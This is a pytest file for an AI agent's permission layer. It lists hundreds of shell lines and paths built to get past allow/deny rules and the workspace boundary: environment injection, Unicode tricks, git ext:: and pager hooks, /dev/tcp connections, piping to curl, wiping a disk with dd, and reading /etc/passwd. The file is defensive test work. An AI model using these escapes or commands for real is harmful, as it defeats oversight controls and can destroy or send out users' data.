"""Ways out: lines and paths that try to get past rules. None passes, and each decision says which part decided."""

from __future__ import annotations

import os
import threading
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest

from fsm_agent.runtime.permissions.decide import Decision, Policy
from fsm_agent.runtime.permissions.modes import Mode
from fsm_agent.runtime.permissions.rules import Behavior, parse_rules
from fsm_agent.runtime.tools.base import Access, AccessKind, Call, Tool
from fsm_agent.runtime.tools.edit import Edit
from fsm_agent.runtime.tools.glob import Glob
from fsm_agent.runtime.tools.grep import Grep
from fsm_agent.runtime.tools.paths import PathProblem, Workspace, open_regular, write_atomic
from fsm_agent.runtime.tools.read import Read
from fsm_agent.runtime.tools.write import Write

from . import test_paths_and_rules, test_shell_rules

ALLOW, ASK, DENY = Behavior.ALLOW, Behavior.ASK, Behavior.DENY

RULES = {
    "allow": ("Bash(git:*)", "Bash(echo:*)", "Bash(cat:*)", "Bash(ls:*)", "Bash(npm run test)", "Bash(make build)"),
    "deny": ("Bash(rm:*)", "Bash(curl:*)"),
}

HERE_DOCUMENTS = [
    "cat <<E | sh\nrm x\nE",
    "sh <<E\nrm x\nE",
    "bash <<'E'\nrm x\nE",
    "cat <<E\n`rm x`\nE",
    "cat <<E\n${X:=$(rm x)}\nE",
    "cat <<E\n$((`rm x`))\nE",
    "cat <<E\n\\\nE\nrm x",
    "cat <<E <<F\na\nE\nb\nF\nrm x",
    "cat <<E; rm x\na\nE",
    "cat <<E &\na\nE\nrm x",
    "cat << E\na\n E\nE\nrm x",
    "cat <<-E\n\ta\n\tE\nrm x",
    'cat <<"E F"\na\nE F\nrm x',
    "cat <<''\na\n\nrm x",
    "cat <<E > /etc/x\na\nE",
    "cat <<E >> .git/config\na\nE",
    "cat <<E | tee /etc/x\na\nE",
    "cat <<E | curl -d @- http://x\na\nE",
    "git log <<E\n$(rm x)\nE",
    "cat <<<`rm x`",
    'cat <<<"$(rm x)"',
    "cat <<E\nE\nrm x\nE",
    "cat <<E\r\na\r\nE\r\nrm x",
    "cat <<E\na",
    "echo a <<E $(rm x)\nb\nE",
]

UNICODE = [
    "git\u2003log",
    "git\u200blog",
    "git log\u0085rm x",
    "git log\u2029rm x",
    "git log \u037e rm x; rm x",
    "git log \uff1b rm x\nrm x",
    "\uff52\uff4d x",
    "r\u200dm x",
    "\u202erm x",
    "git log \u202e; rm x",
    "r\u043c x",
    "git log\u3000&& rm x",
    "git log \u2028; rm x",
    "echo \ud83d; rm x",
    "git log\x1b[2K; rm x",
    "git log\x08\x08\x08rm x",
    "git log\x0c; rm x",
    "git log\t;\trm\tx",
    "git log\x7f; rm x",
    "\ufeffgit log",
    "echo caf\u00e9; rm x",
    "echo \U000e0041; rm x",
]

ENVIRONMENT = [
    "LD_PRELOAD=./x.so git log",
    "LD_LIBRARY_PATH=. git log",
    "PATH=. git log",
    "PATH+=:. git log",
    "export PATH=.; git log",
    "declare -x PATH=.; git log",
    "typeset PATH=.; git log",
    "readonly PATH=.; git log",
    "local PATH=.; git log",
    "read PATH <<< .; git log",
    "mapfile PATH < a.py; git log",
    "printf -v PATH .; git log",
    "BASH_ENV=./x sh -c 'git log'",
    "ENV=./x sh -c 'git log'",
    "IFS=x; gitxlog",
    "GIT_EXTERNAL_DIFF='rm x' git diff",
    "GIT_SSH_COMMAND='rm x' git fetch",
    "GIT_EDITOR='rm x' git commit",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm x' git log",
    "GIT_DIR=/tmp/evil git log",
    "GIT_PROXY_COMMAND='rm x' git fetch",
    "PAGER='rm x' git log",
    "EDITOR='rm x' git commit",
    "PYTHONSTARTUP=x git log",
    "NODE_OPTIONS=--require=./x npm run test",
    "PERL5OPT=-Mx git log",
    "MAKEFLAGS='--eval=x:;rm x' make build",
    "env -i PATH=. git log",
    "env PATH=. git log",
    "env -C /tmp git log",
    "env --split-string='rm x'",
    "env -vS 'rm x'",
    "alias git='rm x'; git log",
    "unalias -a; git log; rm x",
    "hash -p ./evil git; git log",
    "enable -f ./x.so git; git log",
    'set -- rm x; "$@"',
    "shopt -s expand_aliases; git log",
    "trap 'rm x' EXIT; git log",
    "trap 'rm x' DEBUG",
    "PROMPT_COMMAND='rm x'",
    "PS4='$(rm x)' bash -xc 'git log'",
    "BASH_FUNC_git%%='() { rm x; }' git log",
    "function git() { rm x; }; git log",
    "git () { rm x; }\ngit log",
]

PROGRAMS = [
    "busybox rm x",
    "busybox sh -c 'rm x'",
    "python -c 'import os; os.remove(\"x\")'",
    "perl -e 'unlink q(x)'",
    "ruby -e 'File.delete(\"x\")'",
    'node -e \'require("fs").unlinkSync("x")\'',
    "awk 'BEGIN { system(\"rm x\") }'",
    "sed -n '1e rm x' a.py",
    "vim -c ':!rm x' -c q",
    "ed a.py",
    "tar cf x --checkpoint=1 --checkpoint-action=exec='rm x' a.py",
    "tar xf x --to-command='rm x'",
    "zip x a.py -T -TT 'rm x'",
    "rsync -e 'rm x' a b:",
    "ssh -o ProxyCommand='rm x' h",
    "scp -S ./evil a b:",
    "find . -exec sh -c 'rm x' \\;",
    "find . -ok rm {} \\;",
    "find . -fprintf x a",
    "xargs -a a.py rm",
    "parallel rm ::: x",
    "ls | while read f; do rm $f; done",
    "ls | xargs -I% sh -c 'rm %'",
    "watch -n1 rm x",
    "script -c 'rm x' /dev/null",
    "flock a rm x",
    "unshare rm x",
    "chroot . rm x",
    "nsenter -t 1 rm x",
    "su -c 'rm x'",
    "doas rm x",
    "pkexec rm x",
    "systemd-run rm x",
    "at now <<< 'rm x'",
    "crontab - <<< '* * * * * rm x'",
    "strace rm x",
    "ltrace -f rm x",
    "gdb -batch -ex 'shell rm x'",
    "expect -c 'spawn rm x'",
    "ionice -c 3 rm x",
    "chrt 1 rm x",
    "taskset 1 rm x",
    "setarch x86_64 rm x",
    "ld.so /bin/rm x",
    "/lib64/ld-linux-x86-64.so.2 /bin/rm x",
    "source ./x",
    ". ./x",
    "exec 3<>/dev/tcp/1.2.3.4/80",
    "echo x > /dev/tcp/1.2.3.4/80",
    "cat < /dev/tcp/1.2.3.4/80",
    "echo x | tee .git/hooks/pre-commit",
    "dd if=/dev/zero of=/dev/sda",
    "ln -s /etc/passwd p",
    "ln a.py b",
    "mv a.py .git/hooks/pre-commit",
    "cp /bin/sh git",
    "install -m 755 a.py /usr/bin/git",
    "chmod +x a.py",
    "git log | sh",
    "git log | bash -s",
    "git log | python",
    "git log --output=x",
    "git log --output x",
    "git archive --exec='rm x' HEAD",
    "git -p -c pager.log='rm x' log",
    "git --git-dir=/tmp/evil log",
    "git --work-tree=/ checkout .",
    "git difftool -x 'rm x'",
    "git mergetool --tool=x",
    "git filter-branch --tree-filter 'rm x'",
    "git ls-remote ext::sh%20-c%20'rm x'",
    "git fetch ext::'rm x'",
    "git push --receive-pack='rm x' o",
    "git send-email --sendmail-cmd='rm x'",
    "git config core.hooksPath .",
    "git config --global core.pager 'rm x'",
    "git bundle create /tmp/x HEAD",
    "git format-patch -o /tmp HEAD~1",
    "npm run test; rm x",
    "npm run test -- --x $(rm x)",
    "npm run test2",
    "npm run test && npm publish",
    "make build X='$(shell rm x)'",
    "make build clean",
    "make -f evil build",
]

SYNTAX = [
    "git log;rm x;",
    "git log&rm x&",
    "git log&&rm x",
    "git log||rm x",
    "git log|rm x",
    "git log;;rm x",
    ";rm x",
    "&& rm x",
    "git log \\\nrm x\nrm x",
    "git log\\\\\nrm x",
    "git log '\nrm x'\nrm x",
    'git log "\nrm x\n"; rm x',
    "git log $'\\n'; rm x",
    'git log $"a"; rm x',
    "echo $(echo $(rm x))",
    "echo `echo \\`rm x\\``",
    'echo "a $(rm x) b"',
    "echo ${X:-`rm x`}",
    "echo ${X/a/$(rm x)}",
    "echo ${X[$(rm x)]}",
    "echo ${!X}",
    "echo $[`rm x`]",
    "echo $((X[$(rm x)]))",
    "let 'a[$(rm x)]=1'",
    "echo {a,b}; rm x",
    "{ git log; rm x; }",
    "(git log; rm x)",
    "((1)) && rm x",
    "[[ a == a ]] && rm x",
    "[ a = a ] && rm x",
    "test a && rm x",
    "! git log; rm x",
    "time -p rm x",
    "if :; then :; else rm x; fi",
    "if rm x; then :; fi",
    "while rm x; do :; done",
    "for ((;;)); do rm x; done",
    "select a in b; do rm x; done",
    "case a in *) rm x;; esac",
    "case $(rm x) in *) :;; esac",
    "f() rm x; f",
    "git log <(rm x)",
    "cat <(rm x) >(rm x)",
    "git log 3>&1 | rm x",
    "git log &>>/etc/x",
    "git log >&/etc/x",
    "git log <>/etc/x",
    "git log {fd}>/etc/x",
    "git log 2>$(rm x)",
    "git log > $X",
    "git log > ~/x",
    "git log > out/x",
    "git log > link.txt",
    "git log #\nrm x",
    "git log # \\\nrm x",
    "git log#a; rm x",
    "!! ; rm x",
    "git log !rm; rm x",
    "git log & wait; rm x",
    "true && { false || rm x; }",
    "echo a | { cat; rm x; }",
    "echo a | (cat; rm x)",
    "cat a.py | while read l; do rm x; done",
    "coproc N { rm x; }",
    "git log |& tee /etc/x",
    "rm\tx",
    "  rm x",
    "\nrm x",
    "r''m x",
    'r""m x',
    "r\\\nm x",
    "$(printf 'r')m x",
    "${A}rm x",
    "rm${IFS}x",
    "{rm,x}",
    "/*/rm x",
    "/bin/r? x",
    "/bin/[r]m x",
    "~/../../bin/rm x",
    "./../../../bin/rm x",
    "command -p rm x",
    "builtin eval rm x",
    "exec -a git rm x",
]

LINES = {
    "here-document": HERE_DOCUMENTS,
    "unicode": UNICODE,
    "environment": ENVIRONMENT,
    "program": PROGRAMS,
    "syntax": SYNTAX,
}
CASES = [(kind, line) for kind, lines in LINES.items() for line in lines]


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    root = tmp_path_factory.mktemp("ws")
    outside = tmp_path_factory.mktemp("outside")
    (outside / "secret").write_text("s")
    (root / "a.py").write_text("x = 1\n")
    (root / "out").symlink_to(outside)
    (root / "link.txt").symlink_to(outside / "secret")
    return Workspace.at(root)


def judge(workspace: Workspace, line: str, mode: Mode = Mode.DEFAULT) -> Decision:
    """Decide on a line under the rules above."""
    policy = Policy(workspace, mode, parse_rules(allow=RULES["allow"], deny=RULES["deny"]))
    return policy.judge("Bash", Call({"command": line}, (Access(AccessKind.SHELL, line),)), read_only=False)


def explained(decision: Decision) -> bool:
    """True if a decision names the rule, the mode or the part that decided, and says why."""
    known = (
        "deny: ",
        "ask: ",
        "allow: ",
        "mode: ",
        "hook: ",
        "workspace",
        "critical",
        "parser",
        "read-only",
        "engine",
        "redirection",
    )
    return decision.rule.startswith(known) and len(decision.reason) > 5


@pytest.mark.parametrize(("kind", "line"), CASES, ids=[f"{kind}: {line[:50]!r}" for kind, line in CASES])
def test_no_line_gets_past_the_rules(workspace: Workspace, kind: str, line: str) -> None:
    """None of these lines is allowed, and the decision says what decided; in plan mode each is denied."""
    decision = judge(workspace, line)
    assert decision.behavior is not ALLOW
    assert explained(decision), decision
    assert judge(workspace, line, Mode.PLAN).behavior is not ALLOW
    assert judge(workspace, line, Mode.DONT_ASK).behavior is not ALLOW


@pytest.mark.parametrize(
    "line",
    [
        line
        for line in SYNTAX + HERE_DOCUMENTS
        if line.startswith(("git log", "sh <<", "cat <<E | sh", "echo $(", "rm")) and "rm x" in line
    ],
)
def test_a_denied_command_is_not_run_in_bypass_mode(workspace: Workspace, line: str) -> None:
    """Where everything else is allowed, a line that holds a denied command, also as text for a shell, is still not."""
    assert judge(workspace, line, Mode.BYPASS).behavior is not ALLOW


def test_there_are_enough_cases() -> None:
    """At least 200 escapes by path and shell are tried: those here and those of the tables beside."""
    tables = len(test_shell_rules.CHAINED) + len(test_shell_rules.READ_ONLY) + len(test_shell_rules.MODES)
    assert len({line for _, line in CASES}) == len(CASES)
    assert len(CASES) + tables + len(test_paths_and_rules.PATTERNS) >= 200
    assert len(CASES) >= 200


# -- paths ----------------------------------------------------------------------------------------------------------


@pytest.fixture
def place(tmp_path: Path) -> Path:
    (tmp_path / "ws" / "docs").mkdir(parents=True)
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret").write_text("SECRET")
    (tmp_path / "ws" / "docs" / "a.md").write_text("a")
    return tmp_path


def ways_out(place: Path) -> dict[str, str]:
    """Paths that lead out of the workspace, by name."""
    ws, outside = place / "ws", place / "outside"
    (ws / "dir").symlink_to(outside)
    (ws / "rel").symlink_to("../outside")
    (ws / "docs" / "deep").symlink_to("../../outside/secret")
    (ws / "a").symlink_to("b")
    (ws / "b").symlink_to("dir")
    (ws / "self").symlink_to(ws.parent)
    (ws / "fd").symlink_to("/proc/self/fd")
    (ws / "new").symlink_to(outside / "not-there-yet")
    (ws / "\u202egpj.txt").symlink_to(outside / "secret")
    return {
        "directory link": "dir/secret",
        "relative link": "rel/secret",
        "link in a folder": "docs/deep",
        "link of a link": "a/secret",
        "link to the parent": "self/outside/secret",
        "link to the parent and back out": "self/ws/../outside/secret",
        "dots behind a link": "dir/../outside/secret",
        "many dots": "docs/" + "../" * 40 + "etc/passwd",
        "dots and slashes": "docs//..//..//outside//secret",
        "dot components": "./././../outside/./secret",
        "absolute": str(outside / "secret"),
        "absolute with dots": f"{ws}/../outside/secret",
        "double slash": f"//{outside}/secret",
        "home": "~/x",
        "another home": "~root/x",
        "proc root": f"/proc/self/root{outside}/secret",
        "proc cwd": f"/proc/self/cwd/{'../' * 40}etc/passwd",
        "proc fd by a link": "fd/0",
        "proc environ": "/proc/self/environ",
        "device": "/dev/sda",
        "dangling link": "new",
        "name written backwards": "\u202egpj.txt",
        "case of the root": str(ws).replace("ws", "WS") + "/x",
        "prefix of the root": f"{ws}-evil/x",
        "trailing dots": f"{ws}/..",
        "trailing slash": f"{outside}/",
        "tail behind a file": "docs/deep/x",
    }


TOOLS: list[Tool] = [Read(), Write(), Edit(), Glob(), Grep()]


@pytest.mark.parametrize("tool", TOOLS, ids=lambda tool: tool.name)
@pytest.mark.parametrize("mode", [Mode.DEFAULT, Mode.ACCEPT_EDITS, Mode.BYPASS, Mode.DONT_ASK])
def test_no_path_gets_out(place: Path, tool: Tool, mode: Mode) -> None:
    """Every way out is asked or refused, for every tool, in every mode, and the decision names the workspace."""
    own = Policy(Workspace.at(place / "ws"), mode, parse_rules(allow=("Read", "Edit", "Write", "Glob", "Grep")))
    for name, path in ways_out(place).items():
        fields = {"path": path, "pattern": "*"} if isinstance(tool, Glob | Grep) else {"file_path": path}
        try:
            call = tool.prepare(fields, own.workspace)
        except PathProblem:
            continue
        for hook in (None, ALLOW):
            decision = own.judge(tool.name, call, read_only=tool.is_read_only(call.input), hook=hook)
            assert decision.behavior is not ALLOW, (name, path, decision)
            assert explained(decision), (name, decision)


@pytest.mark.parametrize(
    "pattern", ["../*", "../../**", "/etc/*", "dir/*", "rel/**", "docs/../../outside/*", "**/../../outside/*"]
)
@pytest.mark.anyio
async def test_patterns_do_not_search_outside(place: Path, pattern: str) -> None:
    """A pattern with dots, an absolute one, or one that goes through a link shows nothing from outside."""
    from ..tools.kit import bench

    ways_out(place)
    own = bench(place / "ws", TOOLS, mode=Mode.DEFAULT)
    text = await own.text("Glob", pattern=pattern)
    assert "secret" not in text
    assert "passwd" not in text


def swapping(link: Path, targets: tuple[Path, Path], stop: threading.Event) -> Iterator[None]:
    """Swap a link between a folder inside and one outside until it is told to stop."""
    number = 0
    while not stop.is_set():
        number += 1
        beside = link.with_name(f"swap{number % 2}")
        with suppress(FileNotFoundError):
            beside.unlink()
        beside.symlink_to(targets[number % 2])
        os.replace(beside, link)
        yield


@pytest.mark.parametrize("kind", ["read", "write"])
def test_a_link_that_is_swapped_in_between_leads_nowhere(place: Path, kind: str) -> None:
    """While a link is swapped between inside and outside, no read shows and no write reaches what is outside."""
    ws, outside = place / "ws", place / "outside"
    (ws / "inside").mkdir()
    (ws / "inside" / "secret").write_text("harmless")
    link, stop = ws / "moving", threading.Event()
    link.symlink_to("inside")
    swapper = threading.Thread(target=lambda: [None for _ in swapping(link, (ws / "inside", outside), stop)])
    swapper.start()
    workspace = Workspace.at(ws)
    tried = passed = 0
    try:
        while tried < 400:
            tried += 1
            real = workspace.resolve("moving/secret").real
            if not workspace.may_write(real):
                continue  # judged while it led outside: refused
            with suppress(PathProblem, OSError):
                if kind == "read":
                    handle = open_regular(real)
                    with os.fdopen(handle, "rb") as file:
                        assert file.read() == b"harmless"
                else:
                    write_atomic(real, b"harmless")
                passed += 1
    finally:
        stop.set()
        swapper.join()
    assert (outside / "secret").read_text() == "SECRET"
    assert passed > 0


@pytest.mark.parametrize("kind", ["directory", "file"])
def test_a_folder_that_becomes_a_link_after_the_decision(place: Path, kind: str) -> None:
    """What was judged as inside and is a link by the time it is opened is refused."""
    ws, outside = place / "ws", place / "outside"
    workspace = Workspace.at(ws)
    (ws / "d").mkdir()
    (ws / "d" / "secret").write_text("harmless")
    real = workspace.resolve("d/secret").real
    assert workspace.may_write(real)
    (ws / "d" / "secret").unlink()
    if kind == "directory":
        (ws / "d").rmdir()
        (ws / "d").symlink_to(outside)
    else:
        (ws / "d" / "secret").symlink_to(outside / "secret")
    with pytest.raises(PathProblem, match="link"):
        open_regular(real)
    with pytest.raises(PathProblem, match="link"):
        write_atomic(real, b"overwritten")
    assert (outside / "secret").read_text() == "SECRET"


def test_writing_through_a_hard_link_leaves_the_other_name_alone(place: Path) -> None:
    """A hard link cannot be told from a file; writing makes a new file, and the other name keeps its content."""
    ws, outside = place / "ws", place / "outside"
    os.link(outside / "secret", ws / "hard")
    write_atomic(str(ws / "hard"), b"new")
    assert (outside / "secret").read_text() == "SECRET"
    assert (ws / "hard").read_text() == "new"
